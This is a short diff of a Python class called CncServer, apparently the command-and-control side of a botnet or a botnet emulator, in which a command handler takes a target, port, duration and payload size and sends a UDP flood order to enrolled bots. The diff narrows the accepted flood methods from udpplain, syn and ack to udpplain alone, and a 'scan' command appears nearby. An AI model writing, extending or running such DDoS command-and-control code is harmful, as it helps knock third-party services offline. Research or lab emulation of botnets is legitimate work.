@@ -361,12 +361,12 @@ class CncServer:
                 f"bots={self.bot_count()} registrations={self.total_registrations} "
                 f"attacks={len(self.attack_orders)}"
             )
-        if command in ("udpplain", "syn", "ack"):
+        if command == "udpplain":
             if len(parts) < 4:
-                return f"usage: {command} <target> <port> <duration> [payload]"
+                return "usage: udpplain <target> <port> <duration> [payload]"
             payload = int(parts[4]) if len(parts) > 4 else 512
             order = self.issue_attack(
-                parts[1], int(parts[2]), float(parts[3]), payload, method=command
+                parts[1], int(parts[2]), float(parts[3]), payload
             )
             return f"attack sent to {order.bots_commanded} bots"
         if command == "scan":
